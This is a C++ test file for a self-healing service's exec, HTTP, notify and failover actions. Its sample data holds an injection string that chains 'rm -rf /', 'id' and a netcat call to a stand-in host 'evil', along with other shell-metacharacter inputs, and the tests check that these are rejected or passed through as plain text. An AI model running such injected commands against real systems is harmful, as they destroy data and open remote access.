// Real actions against real peers: a script that records its argv, a local HTTP server on port 0.
#include <doctest/doctest.h>
#include <httplib.h>
#include <sys/stat.h>

#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <mutex>
#include <nlohmann/json.hpp>
#include <thread>

#include "healer/actions/exec_action.hpp"
#include "healer/actions/failover.hpp"
#include "healer/actions/http_action.hpp"
#include "healer/actions/notify.hpp"
#include "tests/support/http_server.hpp"
#include "tests/support/support.hpp"

using namespace selfheal;
using namespace selfheal::healer;
namespace fs = std::filesystem;

namespace {

// Writes its argv (one per line) to $1 and exits with $2.
std::string argv_recorder(const test::TempDir& dir) {
  const std::string path = dir.file("record.sh");
  test::write_file(path,
                   "#!/bin/sh\nout=\"$1\"\ncode=\"$2\"\n: > \"$out\"\nfor a in \"$@\"; do printf '%s\\n' \"$a\" >> "
                   "\"$out\"; done\necho recorded\nexit \"$code\"\n");
  ::chmod(path.c_str(), 0755);
  return path;
}

Fields sample_fields(std::string service = "checkout-api") {
  return {{"fingerprint_id", "fp_abc123"},
          {"service", std::move(service)},
          {"strategy", "restart"},
          {"target", "checkout-api"},
          {"action", "exec"},
          {"level", ""},
          {"template", "error $(rm -rf /); `id` | nc evil 1 & <*>"}};
}

struct Receiver {
  test::LocalHttpServer http;
  std::mutex mu;
  std::vector<httplib::Request> requests;
  int status = 200;
  Receiver() {
    auto handler = [this](const httplib::Request& req, httplib::Response& res) {
      std::lock_guard l(mu);
      requests.push_back(req);
      res.status = status;
      res.set_content("{\"ok\":true}", "application/json");
    };
    http.server().Post(".*", handler);
    http.server().Put(".*", handler);
    http.server().Get(".*", handler);
    REQUIRE(http.start() > 0);  // bound to a port
  }
  std::string url(const std::string& path) const { return http.url() + path; }
  std::size_t count() {
    std::lock_guard l(mu);
    return requests.size();
  }
};

}  // namespace

TEST_CASE("exec runs exactly the configured argv with validated placeholders") {
  test::TempDir dir;
  ExecSpec spec;
  spec.argv = {argv_recorder(dir),
               dir.file("argv.txt"),
               "3",
               "restart",
               "{service}",
               "--id",
               "{fingerprint_id}",
               "literal with spaces; $(not expanded)"};
  auto r = run_exec(spec, sample_fields());
  REQUIRE(r);
  CHECK_FALSE(r->success);
  CHECK(r->code == 3);
  CHECK(r->output == "recorded\n");
  CHECK(test::read_file(dir.file("argv.txt")) == dir.file("argv.txt") +
                                                     "\n3\nrestart\ncheckout-api\n--id\nfp_abc123\nliteral with "
                                                     "spaces; $(not expanded)\n");
  spec.argv[2] = "0";
  r = run_exec(spec, sample_fields());
  REQUIRE(r);
  CHECK(r->success);
  CHECK(r->code == 0);
}

TEST_CASE("exec refuses unsafe field values and log-text fields, running nothing") {
  test::TempDir dir;
  ExecSpec spec;
  spec.argv = {argv_recorder(dir), dir.file("argv.txt"), "0", "{service}"};
  for (const std::string& bad :
       std::vector<std::string>{"a;b", "$(touch x)", "`id`", "a b", "", "x|y", std::string(200, 'a'), "../..\n"}) {
    CAPTURE(bad);
    auto r = run_exec(spec, sample_fields(bad));
    REQUIRE_FALSE(r);
    CHECK(r.error().code == ErrorCode::bad_input);
  }
  spec.argv = {argv_recorder(dir), dir.file("argv.txt"), "0", "{template}"};
  auto r = run_exec(spec, sample_fields());
  REQUIRE_FALSE(r);
  CHECK(r.error().code == ErrorCode::bad_input);
  CHECK_FALSE(fs::exists(dir.file("argv.txt")));
}

TEST_CASE("exec passes only allow-listed environment variables") {
  test::TempDir dir;
  const std::string script = dir.file("env.sh");
  test::write_file(script, "#!/bin/sh\nenv > \"$1\"\n");
  ::chmod(script.c_str(), 0755);
  ::setenv("SELFHEAL_TEST_ALLOWED", "yes", 1);
  ::setenv("SELFHEAL_TEST_SECRET", "leak", 1);
  ExecSpec spec;
  spec.argv = {script, dir.file("env.txt")};
  spec.env_allow = {"SELFHEAL_TEST_ALLOWED"};
  auto r = run_exec(spec, {});
  REQUIRE(r);
  CHECK(r->success);
  const std::string env = test::read_file(dir.file("env.txt"));
  CHECK(env.find("SELFHEAL_TEST_ALLOWED=yes") != std::string::npos);
  CHECK(env.find("SELFHEAL_TEST_SECRET") == std::string::npos);
}

TEST_CASE("exec kills a command that outlives its timeout") {
  test::TempDir dir;
  const std::string script = dir.file("hang.sh");
  test::write_file(script, "#!/bin/sh\necho started\nexec /bin/sleep 30\n");
  ::chmod(script.c_str(), 0755);
  ExecSpec spec;
  spec.argv = {script};
  spec.timeout_ms = 300;
  const auto t = std::chrono::steady_clock::now();
  auto r = run_exec(spec, {});
  REQUIRE(r);
  CHECK_FALSE(r->success);
  CHECK(r->transient);
  CHECK(r->error.find("timed out") != std::string::npos);
  CHECK(std::chrono::steady_clock::now() - t < std::chrono::seconds(5));
}

TEST_CASE("exec stops a running command when asked to stop") {
  test::TempDir dir;
  const std::string script = dir.file("hang.sh");
  test::write_file(script, "#!/bin/sh\nexec /bin/sleep 30\n");
  ::chmod(script.c_str(), 0755);
  ExecSpec spec;
  spec.argv = {script};
  std::stop_source stop;
  std::thread stopper([&] { stop.request_stop(); });
  auto r = run_exec(spec, {}, stop.get_token());
  stopper.join();
  REQUIRE(r);
  CHECK_FALSE(r->success);
  CHECK(r->error.find("stopped") != std::string::npos);
}

TEST_CASE("exec bounds the captured output and reports a missing binary") {
  test::TempDir dir;
  const std::string script = dir.file("loud.sh");
  test::write_file(script,
                   "#!/bin/sh\ni=0\nwhile [ $i -lt 2000 ]; do echo 0123456789012345678901234567890123456789; "
                   "i=$((i+1)); done\necho err >&2\n");
  ::chmod(script.c_str(), 0755);
  ExecSpec spec;
  spec.argv = {script};
  spec.max_output_bytes = 100;
  auto r = run_exec(spec, {});
  REQUIRE(r);
  CHECK(r->success);
  CHECK(r->output.size() < 150);
  CHECK(r->output.find("[output truncated]") != std::string::npos);

  spec.argv = {dir.file("does-not-exist")};
  r = run_exec(spec, {});
  REQUIRE(r);
  CHECK_FALSE(r->success);
  CHECK(r->code == 127);
  CHECK(r->error.find("cannot execute") != std::string::npos);
}

TEST_CASE("http sends the configured request with env headers and a JSON body of named fields") {
  Receiver rx;
  ::setenv("SELFHEAL_TEST_TOKEN", "s3cret", 1);
  HttpSpec spec;
  spec.method = "POST";
  spec.url = rx.url("/heal/now?x=1");
  spec.headers_env = {{"Authorization", "SELFHEAL_TEST_TOKEN"}};
  spec.body_fields = {"fingerprint_id", "service", "template"};
  spec.body_static = {{"kind", "restart"}};
  auto r = run_http(spec, sample_fields());
  REQUIRE(r);
  CHECK(r->success);
  CHECK(r->code == 200);
  REQUIRE(rx.count() == 1);
  const auto& req = rx.requests[0];
  CHECK(req.path == "/heal/now");
  CHECK(req.get_param_value("x") == "1");
  CHECK(req.get_header_value("Authorization") == "s3cret");
  const auto body = nlohmann::json::parse(req.body);
  CHECK(body["fingerprint_id"] == "fp_abc123");
  CHECK(body["service"] == "checkout-api");
  CHECK(body["template"] == "error $(rm -rf /); `id` | nc evil 1 & <*>");
  CHECK(body["kind"] == "restart");
  CHECK(body.size() == 4);
}

TEST_CASE("http classifies failures: 5xx transient, 4xx permanent, no connection transient") {
  Receiver rx;
  HttpSpec spec;
  spec.url = rx.url("/x");
  rx.status = 503;
  auto r = run_http(spec, {});
  REQUIRE(r);
  CHECK_FALSE(r->success);
  CHECK(r->transient);
  rx.status = 404;
  r = run_http(spec, {});
  REQUIRE(r);
  CHECK_FALSE(r->success);
  CHECK_FALSE(r->transient);
  spec.url = "http://127.0.0.1:" + std::to_string(test::free_port()) + "/x";
  spec.timeout_ms = 1000;
  r = run_http(spec, {});
  REQUIRE(r);
  CHECK_FALSE(r->success);
  CHECK(r->transient);
  CHECK(r->error.find("127.0.0.1") == std::string::npos);  // never the endpoint
  spec.headers_env = {{"X-Key", "SELFHEAL_TEST_UNSET_VAR"}};
  ::unsetenv("SELFHEAL_TEST_UNSET_VAR");
  auto e = run_http(spec, {});
  REQUIRE_FALSE(e);
  CHECK(e.error().code == ErrorCode::config);
}

TEST_CASE("notify gates by threshold and cooldown, and sends only to subscribed channels") {
  struct Row {
    LevelConfig level;
    std::int64_t count;
    UnixMs last, now;
    bool allowed;
    const char* reason;
  };
  const UnixMs t = 1'700'000'000'000;
  const std::vector<Row> rows = {
      {{"warning", 10, 600}, 9, 0, t, false, "below_threshold"},
      {{"warning", 10, 600}, 10, 0, t, true, ""},
      {{"warning", 10, 600}, 50, t - 599'000, t, false, "notify_cooldown"},
      {{"warning", 10, 600}, 50, t - 600'000, t, true, ""},
      {{"critical", 1, 0}, 1, t, t, true, ""},
  };
  for (const auto& r : rows) {
    const auto g = notify_gate(r.level, r.count, r.last, r.now);
    CHECK(g.allowed == r.allowed);
    CHECK(g.reason == r.reason);
  }

  Receiver ops, chat;
  NotifyConfig cfg;
  cfg.channels = {{"ops", ops.url("/ops"), {"critical"}, {}, 2000},
                  {"chat", chat.url("/chat"), {"warning", "info"}, {}, 2000}};
  Notifier n(cfg);
  Notification msg;
  msg.level = "critical";
  msg.title = "Breaker open";
  msg.fields = sample_fields();
  msg.now = t;
  auto o = n.send(msg, {});
  CHECK(o.success);
  CHECK(ops.count() == 1);
  CHECK(chat.count() == 0);
  const auto j = nlohmann::json::parse(ops.requests[0].body);
  CHECK(j["level"] == "critical");
  CHECK(j["fingerprint_id"] == "fp_abc123");
  CHECK(j["text"].get<std::string>().find("Breaker open") != std::string::npos);
  msg.level = "info";
  o = n.send(msg, {"ops"});  // ops does not take info
  CHECK_FALSE(o.success);
  CHECK(chat.count() == 0);
}

TEST_CASE("failover health-checks, switches, rolls back and resets") {
  ActionConfig a;
  a.type = "failover";
  a.targets = {"db-primary", "db-replica1", "db-replica2"};
  a.delivery.type = "exec";
  a.health_check.type = "http";
  std::vector<std::string> calls;
  std::map<std::string, int> health_calls;
  std::map<std::string, std::vector<bool>> health;  // per target: answers in order
  DeliveryRunner run = [&](const Delivery& d, const Fields& f) -> Result<ActionOutcome> {
    std::string target;
    for (const auto& [k, v] : f)
      if (k == "target") target = v;
    ActionOutcome o;
    if (d.type == "http") {
      calls.push_back("check " + target);
      auto& answers = health[target];
      const int i = health_calls[target]++;
      o.success = i < static_cast<int>(answers.size()) ? answers[static_cast<std::size_t>(i)] : true;
    } else {
      calls.push_back("switch " + target);
      o.success = true;
    }
    return o;
  };
  Fields f = {{"target", "db"}};

  SUBCASE("switches to the first healthy backup") {
    health["db-replica1"] = {false};
    auto r = run_failover(a, "db-primary", f, run);
    CHECK(r.outcome.success);
    CHECK(r.active == "db-replica2");
    CHECK(calls == std::vector<std::string>{"check db-replica1", "check db-replica2", "switch db-replica2",
                                            "check db-replica2"});
  }
  SUBCASE("rolls back when the backup is unhealthy after the switch") {
    health["db-replica1"] = {true, false};
    auto r = run_failover(a, "", f, run);
    CHECK_FALSE(r.outcome.success);
    CHECK(r.rolled_back);
    CHECK(r.active == "db-primary");
    CHECK(calls == std::vector<std::string>{"check db-replica1", "switch db-replica1", "check db-replica1",
                                            "switch db-primary"});
  }
  SUBCASE("fails when no target is left") {
    auto r = run_failover(a, "db-replica2", f, run);
    CHECK_FALSE(r.outcome.success);
    CHECK(calls.empty());
  }
  SUBCASE("reset switches back to the primary") {
    auto r = reset_failover(a, "db-replica1", f, run);
    CHECK(r.outcome.success);
    CHECK(r.active == "db-primary");
    CHECK(calls == std::vector<std::string>{"switch db-primary"});
  }
}
